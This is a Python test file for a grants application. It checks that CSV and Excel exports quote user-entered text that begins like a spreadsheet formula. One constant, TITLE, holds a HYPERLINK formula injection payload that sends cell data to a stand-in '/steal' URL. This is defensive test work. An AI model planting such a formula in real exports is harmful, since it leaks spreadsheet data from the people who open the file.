"""Text someone typed is never run by a spreadsheet: a cell that starts like a formula is quoted, in
CSV and in Excel."""

from grants.extensions import db
from tests.exports.conftest import csv_table, xlsx_cells, xlsx_table

TITLE = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'
FUNDER = "+44 1942 244991 Health and Wellbeing Board"
RATIONALE = "-2+3 strong partnership"
CONDITIONS = "@SUM(A1:A9)"


def test_cells_that_start_like_formulas_are_quoted(programme, programme_officer_client):
    programme.bid.title = TITLE
    programme.bid.match_funder = FUNDER
    db.session.commit()
    from grants.reviews.models import Decision

    decision = db.session.scalar(db.select(Decision).where(Decision.application_id == programme.bid.id))
    decision.rationale, decision.conditions = RATIONALE, CONDITIONS
    db.session.commit()
    url = f"/exports/{{}}.{{}}?round={programme.round.id}"

    [bid, *_] = csv_table(programme_officer_client.get(url.format("applications", "csv")))
    assert bid["Title"] == "'" + TITLE and bid["Match funder"] == "'" + FUNDER
    [decision_row] = csv_table(programme_officer_client.get(url.format("decisions", "csv")))
    assert (decision_row["Rationale"], decision_row["Conditions"]) == ("'" + RATIONALE, "'" + CONDITIONS)

    response = programme_officer_client.get(url.format("applications", "xlsx"))
    [bid, *_] = xlsx_table(response)
    assert bid["Title"] == "'" + TITLE
    title_cell = xlsx_cells(response)[1][3]
    assert title_cell.value == "'" + TITLE and title_cell.data_type == "s"  # text, not a formula
    [decision_row] = xlsx_table(programme_officer_client.get(url.format("decisions", "xlsx")))
    assert (decision_row["Rationale"], decision_row["Conditions"]) == ("'" + RATIONALE, "'" + CONDITIONS)


def test_ordinary_text_and_negative_looking_references_are_left_alone(programme, programme_officer_client):
    [bid, *_] = csv_table(programme_officer_client.get(f"/exports/applications.csv?round={programme.round.id}"))
    assert bid["Title"] == "Home from hospital"
    assert bid["Reference"] == programme.bid.reference  # "LV2-0001": the dash inside is harmless
